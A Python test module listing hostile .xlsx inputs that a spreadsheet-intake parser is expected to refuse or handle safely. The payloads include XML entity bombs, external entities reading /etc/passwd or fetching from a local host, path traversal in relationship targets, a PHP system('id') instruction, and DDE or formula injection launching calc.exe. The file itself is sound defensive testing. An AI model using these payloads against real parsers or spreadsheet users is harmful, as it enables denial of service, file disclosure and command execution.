"""Parts of an .xlsx that lie: XML that explodes, cells where there are none, indices of nothing, links to elsewhere."""

from collections.abc import Callable

from customs.intake import Reading
from tests.hostile.case import Case, refused, taken
from tests.hostile.parts import (
    HEADS,
    LINES,
    MAIN,
    SHEET,
    STRICT,
    WORKBOOK,
    XML,
    beside,
    book,
    parts,
    relations,
    row,
    rows,
    shared,
    sheet,
    styles,
    workbook,
    zipped,
)

DAMAGED, DOCTYPE, BOMB, WIDE, EMPTY = "FILE-DAMAGED", "FILE-DOCTYPE", "FILE-BOMB", "FILE-TOO-WIDE", "FILE-EMPTY"
HEAVY = "FILE-TOO-HEAVY"
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
QUADRATIC = f"<!DOCTYPE x [<!ENTITY a '{'x' * 50_000}'>]>"
EXTERNAL = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
PARAMETER = "<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://127.0.0.1:9/x'> %a;]>"

Make = Callable[[], bytes]


def with_cell(xml: str, *, more: str = "", **changed: str) -> Make:
    """The third line is one with this XML as its quantity."""
    line = row(4, ("TA-402", "Vải dệt kim rib", "60063290", "CN")) + more
    return lambda: book(sheet=sheet(rows(*LINES) + line.replace("</row>", f"{xml}</row>", 1)), **changed)


def value(stored: str, attributes: str = "") -> Make:
    return with_cell(f'<c r="E4"{attributes}><v>{stored}</v></c>')


def with_rows(xml: str) -> Make:
    return lambda: book(sheet=sheet(rows(*LINES) + xml))


def holds(text: str) -> Callable[[Reading], None]:
    """Somewhere in the sheets as they are shown."""

    def look(reading: Reading) -> None:
        assert any(text in held for one in reading.sheets for cells in one.cells.columns for held in cells.texts)

    return look


def holds_no(text: str) -> Callable[[Reading], None]:
    def look(reading: Reading) -> None:
        assert not any(text in held for one in reading.sheets for cells in one.cells.columns for held in cells.texts)

    return look


def reads(kind: str, text: str) -> Callable[[Reading], None]:
    """Cell E4 is of that kind and text."""

    def look(reading: Reading) -> None:
        found = reading.sheets[0].cells.cell(4, 4)
        assert (found.kind, found.text) == (kind, text)

    return look


def doctype(part: str, text: str) -> Make:
    def make() -> bytes:
        own = parts()
        own[part] = own[part].replace(b"\n", f"\n{text}".encode(), 1)
        return zipped(own)

    return make


def encoded(part: str, codec: str, declared: str = "UTF-8") -> Make:
    def make() -> bytes:
        own = parts()
        own[part] = own[part].decode().replace("UTF-8", declared, 1).encode(codec)
        return zipped(own)

    return make


def hidden_doctype() -> bytes:
    """The declaration is ASCII, what follows is written in EBCDIC: whoever looks for a DOCTYPE by its letters is blind."""
    own = parts()
    head = b'<?xml version="1.0" encoding="cp037"?>'
    own[WORKBOOK] = head + (LAUGHS + "]>" + workbook("&a9;").partition("\n")[2]).encode("cp037")
    return zipped(own)


def many_sheets(count: int, body: str) -> bytes:
    """As many names for one part."""
    named = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, count + 1))
    return book(workbook=workbook(named), sheet=sheet(body))


def far_apart(count: int) -> bytes:
    """Sheets that are small as files and large as grids: each has a cell in its first and in its last place."""
    body = row(1, HEADS) + '<row r="270000"><c r="T270000"><v>1</v></c></row>'
    names = range(1, count + 1)
    own = {f"xl/worksheets/s{n}.xml": sheet(body) for n in names}
    links = relations(*((f"r{n}", "worksheet", f"worksheets/s{n}.xml") for n in names))
    named = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r{n}"/>' for n in names)
    return beside({**own, WORKBOOK: workbook(named), "xl/_rels/workbook.xml.rels": links})


def one_text_everywhere() -> bytes:
    """A text of 30,000 characters, stored once and shown twenty thousand times."""
    body = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{letter}{n}" t="s"><v>0</v></c>' for letter in "ABCDEFGHIJ") + "</row>"
        for n in range(1, 2_001)
    )
    return book(sheet=sheet(body), shared=shared("x" * 30_000))


def _xml() -> tuple[Case, ...]:
    nested = "<a>" * 100_000 + "</a>" * 100_000
    told = [
        (WORKBOOK, "the list of sheets"), (SHEET, "a sheet"), ("xl/sharedStrings.xml", "shared strings"),
        ("xl/styles.xml", "styles"), ("xl/_rels/workbook.xml.rels", "relations"), ("[Content_Types].xml", "kinds"),
    ]  # fmt: skip
    return (
        *(refused(f"billion laughs in {name}", doctype(part, LAUGHS + "]>"), DOCTYPE) for part, name in told),
        refused("a large entity again and again", doctype(SHEET, QUADRATIC), DOCTYPE),
        refused("an entity from a file", doctype(SHEET, EXTERNAL), DOCTYPE),
        refused("a parameter entity from the network", doctype(WORKBOOK, PARAMETER), DOCTYPE),
        refused("a DOCTYPE of nothing", doctype("xl/styles.xml", "<!DOCTYPE x>"), DOCTYPE),
        refused("a DOCTYPE behind a megabyte of blanks", doctype(SHEET, " " * ((1 << 20) - 60) + EXTERNAL), DOCTYPE),
        refused("a DOCTYPE in properties", lambda: beside({"docProps/core.xml": XML + EXTERNAL + "<a/>"}), DOCTYPE),
        refused("a DOCTYPE in letters of another kind", hidden_doctype, DAMAGED),
        refused("a sheet in UTF-16", encoded(SHEET, "utf-16"), DAMAGED),
        refused("a sheet in UTF-16 without mark", encoded(SHEET, "utf-16-le"), DAMAGED),
        refused("a sheet in UTF-32", encoded(SHEET, "utf-32"), DAMAGED),
        refused("a list of sheets in UTF-16", encoded(WORKBOOK, "utf-16", "UTF-16"), DAMAGED),
        refused("a sheet that says it is UTF-7", encoded(SHEET, "utf-7", "UTF-7"), DAMAGED),
        taken("a sheet with a mark of UTF-8", encoded(SHEET, "utf-8-sig")),
        refused("a sheet with broken UTF-8", lambda: book(sheet=sheet().encode().replace(b"TA-400", b"TA\xff400")), DAMAGED),
        refused("a sheet of rubbish", lambda: book(sheet="rubbish"), DAMAGED, EMPTY),
        refused("an empty sheet part", lambda: book(sheet=""), DAMAGED, EMPTY),
        taken("a sheet whose rows do not close", lambda: book(sheet=sheet().replace("</row>", ""))),
        refused("a sheet that ends in a tag", lambda: book(sheet=sheet()[:700]), DAMAGED),
        refused("tags that never close", with_rows("<c " * 200_000), DAMAGED),
        refused("rows that never close", with_rows("<row " * 200_000), DAMAGED),
        refused("formulas that never close", with_rows('<row r="4"><c r="A4"><f>' * 100_000), DAMAGED),
        refused("a list of sheets that breaks off", lambda: book(workbook=workbook()[:-20]), DAMAGED),
        refused("styles that break off", lambda: book(styles=styles()[:-20]), DAMAGED),
        taken("a hundred thousand levels in a sheet", with_rows(nested)),
        refused("a hundred thousand levels in the list of sheets", lambda: book(workbook=workbook(more=nested)), DAMAGED),
        refused("a hundred thousand levels in styles", lambda: book(styles=styles(cells=nested)), DAMAGED),
        taken("an attribute of 16 MiB", with_cell(f'<c r="E4" x="{"a" * (16 << 20)}"><v>5</v></c>'), 3),
        taken("a hundred thousand attributes", with_cell('<c r="E4" ' + " ".join(f'a{n}=""' for n in range(100_000)) + "><v>5</v></c>"), 3),
        taken("a comment of 16 MiB", with_rows(f"<!--{'a' * (16 << 20)}-->")),
        taken("rows in a comment", with_rows(f"<!--{row(4, LINES[0])}-->"), 2),
        taken("an instruction to a program", lambda: book(sheet=sheet(head=XML + "<?php system('id') ?>"))),
        taken("values in CDATA", with_cell('<c r="E4"><v><![CDATA[5]]></v></c>'), 3),
        refused("entities nobody declared", with_cell('<c r="E4" t="str"><v>&boom;</v></c>'), DAMAGED),
        taken("a NUL in a text", lambda: book(sheet=sheet().encode().replace(b"TA-400", b"TA\x00400"))),
        refused("a sign XML has no place for", with_cell('<c r="E4" t="str"><v>&#0;</v></c>'), DAMAGED),
        taken("a NUL written as Excel writes signs", with_cell('<c r="E4" t="str"><v>a_x0000_b</v></c>'), None, look=holds_no("\0")),
    )  # fmt: skip


def _places() -> tuple[Case, ...]:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return (
        taken("dimensions of the whole world", lambda: book(sheet=sheet(before='<dimension ref="A1:XFD1048576"/>'))),
        taken("dimensions smaller than the sheet", lambda: book(sheet=sheet(before='<dimension ref="A1:B2"/>'))),
        refused("dimensions of nonsense", lambda: book(sheet=sheet(before='<dimension ref="ZZZZ0:-1"/>')), DAMAGED),
        refused("a cell at the end of the world", with_rows(far), WIDE, HEAVY),
        refused("a cell far below", with_rows('<row r="1000000"><c r="A1000000"><v>1</v></c></row>'), WIDE),
        refused("a row beyond the last", with_rows('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'), WIDE, DAMAGED),
        refused("a row of twenty digits", with_rows(f'<row r="{"9" * 20}"><c r="A{"9" * 20}"><v>1</v></c></row>'), DAMAGED),
        refused("a row of 4 billion", with_rows('<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'), DAMAGED, WIDE, HEAVY),
        refused("row 0", with_rows('<row r="0"><c r="A0"><v>1</v></c></row>'), DAMAGED),
        refused("row -1", with_rows('<row r="-1"><c r="A-1"><v>1</v></c></row>'), DAMAGED),
        refused("row 1.5", with_rows('<row r="1.5"><c r="A1.5"><v>1</v></c></row>'), DAMAGED),
        refused("a reference without a row", with_cell('<c r="E"><v>5</v></c>'), DAMAGED),
        refused("a reference without a column", with_cell('<c r="4"><v>5</v></c>'), DAMAGED),
        refused("a reference of nothing", with_cell('<c r=""><v>5</v></c>'), DAMAGED),
        refused("a column beyond the last", with_cell('<c r="XFE4"><v>5</v></c>'), DAMAGED, WIDE),
        refused("a column of six letters", with_cell('<c r="ZZZZZZ4"><v>5</v></c>'), DAMAGED, WIDE, HEAVY),
        refused("a row twice", with_rows(row(3, LINES[0])), DAMAGED),
        refused("a cell twice", with_cell('<c r="E4"><v>5</v></c><c r="E4"><v>999</v></c>'), DAMAGED),
        refused("a cell of another row", with_cell('<c r="E2"><v>999</v></c>'), DAMAGED),
        taken("rows in the wrong order", lambda: book(sheet=sheet(row(3, LINES[1]) + row(2, LINES[0]) + row(1, HEADS)))),
        taken("rows and cells without references", lambda: book(sheet=sheet(rows(*LINES).replace(' r="', ' x="')))),
        taken("a hundred thousand empty rows", with_rows("".join(f'<row r="{n}"/>' for n in range(4, 100_000)))),
        taken("a merged range of the whole sheet", lambda: book(sheet=sheet(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')), None),
        refused("merged ranges of nonsense", lambda: book(sheet=sheet(after='<mergeCells><mergeCell ref="B9:A1"/><mergeCell ref="A0"/><mergeCell/></mergeCells>')), DAMAGED),
        taken("fifty thousand merged ranges", lambda: book(sheet=sheet(after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(4, 50_000)) + "</mergeCells>"))),
        taken("two thousand columns", lambda: book(sheet=sheet(row(1, HEADS) + '<row r="2"><c r="BZZ2"><v>1</v></c></row>')), None),
        refused("three sheets that are vast and empty", lambda: far_apart(3), HEAVY, grows=200),
        refused("ten thousand names for one sheet", lambda: many_sheets(10_000, rows(*LINES * 20)), WIDE, BOMB, DAMAGED),
        refused("one long text in twenty thousand cells", one_text_everywhere, HEAVY),
    )  # fmt: skip


def _wholes() -> tuple[Case, ...]:
    def leading(*targets: tuple[str, str, str], more: str = "") -> Make:
        return lambda: book(rels=relations(*targets, more=more))

    formula = "<f>{}</f><v>0</v>"
    acts = {
        "cmd": "cmd|'/c calc.exe'!A0", "msexcel": "MSEXCEL|'\\..\\..\\calc.exe'!''",
        "web": 'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)', "link": 'HYPERLINK("http://127.0.0.1:9/","x")',
        "macro": 'CALL("kernel32","WinExec","JCJ","calc",0)',
    }  # fmt: skip
    kinds = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return (
        taken("strict beside transitional", lambda: book(sheet=sheet(space=STRICT))),
        taken("relations of the strict kind only", lambda: book(rels=parts()["xl/_rels/workbook.xml.rels"].replace(b"http://schemas.openxmlformats.org/officeDocument/2006/relationships", b"http://purl.oclc.org/ooxml/officeDocument/relationships")), None),
        taken("kinds that lie", lambda: book(types=parts()["[Content_Types].xml"].replace(b"worksheet+xml", b"styles+xml"))),
        taken("no kinds", lambda: book(types=None)),
        refused("no relations on top", lambda: book(top=None), DAMAGED),
        refused("no list of sheets", lambda: book(workbook=None), "FILE-NOT-WORKBOOK"),
        refused("no relations of the workbook", lambda: book(rels=None), DAMAGED, EMPTY),
        refused("no sheet", lambda: book(sheet=None), DAMAGED, EMPTY),
        taken("no styles", lambda: book(styles=None)),
        refused("a workbook without sheets", lambda: book(workbook=workbook("")), EMPTY, DAMAGED),
        refused("a sheet from the network", leading(("rId1", "worksheet", "http://127.0.0.1:9/sheet.xml"), more=' TargetMode="External"'), DAMAGED, EMPTY),
        refused("a sheet from the disk", leading(("rId1", "worksheet", "file:///etc/passwd")), DAMAGED, EMPTY),
        refused("a sheet that climbs out", leading(("rId1", "worksheet", "../../../../etc/passwd")), DAMAGED, EMPTY),
        refused("a sheet that is the workbook", leading(("rId1", "worksheet", "workbook.xml")), DAMAGED, EMPTY),
        taken("relations in a circle", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "worksheet", "../workbook.xml"), ("rId2", "comments", "sheet1.xml"))})),
        taken("comments that break off", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "comments", "../comments1.xml")), "xl/comments1.xml": "<comments><a>"})),
        taken("comments that are not there", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "comments", "../comments9.xml"))})),
        taken("relations of a sheet that break off", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": "<Relationships><"})),
        refused("relations on top that break off", lambda: book(top="<Relationships><"), DAMAGED),
        taken("kinds that break off", lambda: book(types="<Types><")),
        refused("a relation twice", leading(("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId1", "worksheet", "styles.xml")), DAMAGED, EMPTY),
        taken("macros under the name of a workbook", lambda: beside({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 200, "[Content_Types].xml": parts()["[Content_Types].xml"].replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", kinds.encode())})),
        taken("macros", lambda: beside({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 200}), file="invoice.xlsm"),
        taken("an embedded program", lambda: beside({"xl/embeddings/oleObject1.bin": b"MZ" * 2000})),
        taken("controls", lambda: beside({"xl/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>", "xl/activeX/activeX1.bin": b"\0" * 99})),
        taken("links to other workbooks", lambda: beside({"xl/externalLinks/externalLink1.xml": f"<externalLink xmlns='{MAIN}'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"})),
        taken("connections to the network", lambda: beside({"xl/connections.xml": f"<connections xmlns='{MAIN}'><connection id='1' url='http://127.0.0.1:9'/></connections>"})),
        *(taken(f"a formula that acts: {name}", with_cell(f'<c r="E4">{formula.format(text)}</c>'), None, look=holds_no("calc")) for name, text in acts.items()),
        taken("a shared formula of the whole sheet", with_cell('<c r="E4"><f t="shared" ref="A1:XFD1048576" si="0">A1</f><v>5</v></c>'), 3),
        taken("sheet names like formulas and markup", lambda: book(workbook=workbook('<sheet name="=1+1&lt;b&gt;" sheetId="1" r:id="rId1"/>'))),
        taken("a sheet name of 300 signs", lambda: book(workbook=workbook(f'<sheet name="{"x" * 300}" sheetId="1" r:id="rId1"/>'))),
        taken("a sheet without a name", lambda: book(workbook=workbook('<sheet name="" sheetId="1" r:id="rId1"/>'))),
        refused("two names for one sheet", lambda: many_sheets(2, rows(*LINES)), DAMAGED),
        taken("a sheet with a number of words", lambda: book(workbook=workbook('<sheet name="A" sheetId="x" r:id="rId1"/>'))),
        taken("the 1904 calendar of nonsense", lambda: book(workbook=workbook(more='<workbookPr date1904="maybe"/>')), None),
    )  # fmt: skip


CASES: tuple[Case, ...] = (*_xml(), *_places(), *_wholes())
